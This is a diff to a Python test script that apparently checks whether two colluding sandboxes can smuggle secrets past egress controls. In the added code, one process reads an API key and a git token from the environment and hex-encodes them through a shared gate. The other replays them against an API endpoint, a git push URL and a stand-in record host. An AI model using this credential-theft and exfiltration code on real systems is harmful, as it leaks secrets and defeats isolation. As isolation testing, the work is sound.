@@ -4,8 +4,11 @@ Prints JSON. Standard library only. The two meet at an upstream that lets them w
 know nothing of each other, but what `quiet` tells `loud` as somebody who is in league with it.
 """
 
+import base64
 import http.client
 import json
+import os
+import re
 import select
 import selectors
 import socket
@@ -16,7 +19,8 @@ import threading
 import time
 
 BULK, PLAIN, SINK = "bulk.demo.example", "plain.demo.example", "sink.demo.example"
-MODEL = "api.anthropic.com"
+MODEL, GIT, RECORD = "api.anthropic.com", "git.demo.example", "record.demo.example"
+THEIRS = "known-to-the-quiet-one.example"
 CONNECTIONS = 10_000
 BUSY = 200
 SAMPLES = 15
@@ -33,9 +37,10 @@ class Gate:
     def ask(self, what, name):
         self.connection.request("GET", f"/{what}/{name}")
         answer = self.connection.getresponse()
-        answer.read()
+        word = answer.read().decode()
         if answer.status != 200:
             raise RuntimeError(f"{what} {name}: {answer.status}")
+        return word
 
 
 # -- the quiet one ---------------------------------------------------------------------------------------
@@ -66,7 +71,8 @@ def quiet():
     gate = Gate()
     measure()
     found = {"alone": measure()}
-    gate.ask("signal", "alone")
+    told = [os.environ["ANTHROPIC_API_KEY"], os.environ["DEMO_GIT_TOKEN"], socket.gethostbyname(THEIRS)]
+    gate.ask("signal", f"alone/{' '.join(told).encode().hex()}")
     gate.ask("wait", "held")
     found["beside_idle"] = measure()
     gate.ask("signal", "seen-held")
@@ -186,22 +192,39 @@ def pour(*framing, chunked):
     return status if sent < 512 * MIB else f"took {sent // MIB} MiB"
 
 
-def borrowed(words):
-    """Another sandbox's surrogate: to its own host, where it would be worth something."""
-    with (
-        socket.create_connection((MODEL, 443), timeout=20) as raw,
-        CONTEXT.wrap_socket(raw, server_hostname=MODEL) as client,
-    ):
-        body = json.dumps({"note": words}).encode()
-        head = f"POST /v1/anything HTTP/1.1\r\nHost: {MODEL}\r\nConnection: close\r\nX-Api-Key: {words}\r\nX-Note: {words}\r\nContent-Length: {len(body)}\r\n\r\n"
-        client.sendall(head.encode() + body)
-        return client.recv(65536).decode("latin-1").split(" ")[1]
+def verdict(data, name, port=443):
+    """The status, and the obstacle of a refusal of ours."""
+    with socket.create_connection((name, port), timeout=20) as raw:
+        with CONTEXT.wrap_socket(raw, server_hostname=name) if port == 443 else raw as client:
+            client.sendall(data)
+            answer = client.recv(65536).decode("latin-1")
+    obstacle = re.search(r'"obstacle": "([a-z-]+)"', answer)
+    return f"{answer.split(' ')[1]} {obstacle[1] if obstacle else ''}".strip()
+
+
+def borrowed(key, token):
+    """What another sandbox's surrogates are worth here."""
+    body = json.dumps(
+        {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": key}]}
+    ).encode()
+    head = f"POST /v1/messages HTTP/1.1\r\nHost: {MODEL}\r\nX-Api-Key: {key}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
+    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
+    push = f"GET /demo.git/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: {GIT}\r\nAuthorization: Basic {basic}\r\n\r\n"
+    note = f"GET /borrowed HTTP/1.1\r\nHost: {RECORD}\r\nX-Note: the key {key} and the token {token}\r\n\r\n"
+    return {
+        "borrowed_key": verdict(head.encode() + body, MODEL),
+        "borrowed_token": verdict(push.encode(), GIT),
+        "borrowed_note": verdict(note.encode(), RECORD),
+    }
 
 
 def loud():
     gate, held = Gate(), {}
-    found = {}
-    gate.ask("wait", "alone")
+    key, token, address = bytes.fromhex(gate.ask("wait", "alone")).decode().split()
+    found = borrowed(key, token)
+    found["borrowed_address"] = verdict(
+        f"GET / HTTP/1.1\r\nHost: {THEIRS}\r\n\r\n".encode(), address, port=80
+    )
     try:
         found["connections"] = ten_thousand(held)
         gate.ask("signal", "held")
